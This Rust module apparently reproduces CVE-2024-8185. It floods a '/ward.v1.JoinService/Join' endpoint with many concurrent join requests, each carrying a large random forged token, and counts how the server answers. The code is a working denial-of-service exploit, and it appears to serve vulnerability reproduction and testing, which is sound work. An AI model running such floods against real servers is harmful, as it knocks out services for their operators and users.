//! Strangers who want to join, as many as there are places (CVE-2024-8185): every one with a token
//! that nobody gave out.

use std::collections::BTreeMap;

use bytes::Bytes;
use http_body_util::Full;
use hyper::client::conn::http2::SendRequest;
use rustls::ClientConfig;

use crate::raw;

/// Asks to join on so many connections one after the other, `each` times at once on each; how often
/// each answer came, by its reason or its HTTP status.
///
/// # Panics
/// When a connection is not taken.
pub async fn flood(
    address: &str,
    config: &ClientConfig,
    connections: usize,
    each: usize,
) -> BTreeMap<String, usize> {
    let mut answers = BTreeMap::new();
    for _ in 0..connections {
        let requests = raw::connect(address, config.clone()).await;
        let asking = (0..each).map(|_| ask(requests.clone()));
        for word in futures::future::join_all(asking).await {
            *answers.entry(word).or_default() += 1;
        }
    }
    answers
}

async fn ask(mut requests: SendRequest<Full<Bytes>>) -> String {
    if requests.ready().await.is_err() {
        return "cut off".to_owned();
    }
    // About as large as a request to join may be.
    let token = format!("wardj1.{}", hex::encode(noise()));
    let body = raw::message(&raw::field(1, token.as_bytes()));
    let answer = raw::say(&mut requests, raw::call(JOIN, body)).await;
    let status = answer.status.map(|status| status.to_string());
    let status = status.unwrap_or_else(|| "cut off".to_owned());
    answer.reason().unwrap_or(status)
}

fn noise() -> Vec<u8> {
    let mut noise = vec![0; 6_000];
    fastrand::fill(&mut noise);
    noise
}

const JOIN: &str = "/ward.v1.JoinService/Join";
